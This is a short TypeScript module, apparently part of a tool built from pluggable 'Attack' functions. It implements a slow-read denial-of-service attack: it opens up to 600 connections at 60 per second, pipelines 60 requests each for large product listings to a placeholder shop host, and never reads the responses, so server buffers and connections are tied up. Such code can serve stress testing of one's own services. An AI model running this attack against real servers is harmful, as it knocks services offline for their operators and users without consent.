import { type Attack } from './attack.ts';
import { openSteadily } from './open-steadily.ts';
import { openConnection } from './target.ts';

/** Many requests for answers that do not fit into the buffers of a connection, and that the client never reads. */
const REQUESTS = 'GET /v1/products?limit=100 HTTP/1.1\r\nHost: shop.example\r\n\r\n'.repeat(60);

export const slowReaders: Attack = (targets, signal) =>
  openSteadily(targets, signal, {
    perSecond: 60,
    most: 600,
    open: (target) => openConnection(target, REQUESTS),
  });
